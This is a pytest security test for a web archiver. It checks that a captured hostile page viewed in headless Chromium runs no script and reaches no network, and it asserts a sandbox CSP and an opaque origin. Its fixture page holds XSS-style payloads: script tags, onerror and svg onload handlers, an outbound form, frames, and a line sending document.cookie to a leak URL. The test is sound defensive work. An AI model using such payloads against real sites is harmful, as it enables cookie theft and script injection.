"""An archived page viewed through the web interface cannot run anything nor reach the network:
a hostile page holding <script>, onerror=, a form posting elsewhere, outside
stylesheets, images and frames is captured, then shown in headless Chromium."""

from __future__ import annotations

from sqlalchemy import select

from archiver.models import Capture
from tests.webserver import capture_all


def hostile_page(leak: str) -> str:
    return f"""<html><head><title>Hostile notice</title>
<link rel="stylesheet" href="{leak}/css"><style>body {{ background: #fee }}</style>
<script>window.__pwned = 'script'; try {{ window.top.__pwned = 'script' }} catch (e) {{}}
fetch('{leak}/script'); document.title = 'ran'</script>
</head><body><article><h1>Hostile notice</h1>
<p>The county bureau announced the purchase of surveillance cameras for every village, the notice said.</p>
<p>Residents were told to register their phones with the police station before the end of the month.</p>
<img src="{leak}/img" onerror="fetch('{leak}/onerror'); window.__pwned = 'onerror'; document.title = 'ran'">
<img src="data:," onerror="window.__pwned = 'onerror2'; document.title = 'ran'">
<form id="f" action="{leak}/form" method="post"><input name="secret" value="1"><button id="go">Send</button></form>
<a id="out" href="{leak}/link">read more</a>
<iframe src="{leak}/frame"></iframe><object data="{leak}/object"></object>
<svg onload="window.__pwned = 'svg'"><image href="{leak}/svg-image"/></svg>
<script>new Image().src = '{leak}/cookie?' + document.cookie</script>
</article></body></html>"""


def test_a_hostile_archived_page_runs_nothing_and_reaches_nothing(page, archive, site, served):
    leak = site.url("/leak")
    url = site.set("/hostile.html", hostile_page(leak))
    from archiver.sources import add_source

    with archive.sessions.begin() as session:
        source, _ = add_source(session, url, lang="en")
        source_id = source.id
    capture_all(archive.config, archive.sessions)
    with archive.sessions() as session:
        capture_id = session.scalar(select(Capture.id).where(Capture.source_id == source_id))
    site.requests.clear()

    page.goto(f"/source/{source_id}")
    page.click(f"#capture-{capture_id} a:has-text('view')")
    page.wait_for_url(f"**/capture/{capture_id}/view")
    frame = page.frame_locator("iframe.archived")
    assert "purchase of surveillance cameras" in frame.locator("article").inner_text()
    page.wait_for_timeout(500)
    [archived] = [f for f in page.frames if f.url.endswith(f"/archived/{capture_id}")]
    assert archived.evaluate("document.title") == "Hostile notice"
    assert archived.evaluate("window.__pwned") is None
    assert page.evaluate("window.__pwned") is None
    assert archived.evaluate("origin") == "null"  # an opaque origin: nothing of the app is readable
    frame.locator("#go").click()  # sandboxed without allow-forms: the form is not sent
    page.wait_for_timeout(300)
    assert archived.evaluate("location.href").endswith(f"/archived/{capture_id}")
    frame.locator("#out").click()  # the app's frame-src 'self' keeps the frame from leaving
    page.wait_for_timeout(500)
    assert page.url.endswith(f"/capture/{capture_id}/view")
    assert not [f.url for f in page.frames if f.url.startswith(leak)]

    response = page.request.get(f"/archived/{capture_id}")
    policy = response.headers["content-security-policy"]
    assert policy.startswith("sandbox;") and "default-src 'none'" in policy and "script-src" not in policy
    page.goto(f"/archived/{capture_id}")
    page.wait_for_timeout(500)
    assert page.evaluate("window.__pwned") is None and page.title() == "Hostile notice"

    assert [r["path"] for r in site.requests] == []
    assert page.left == []
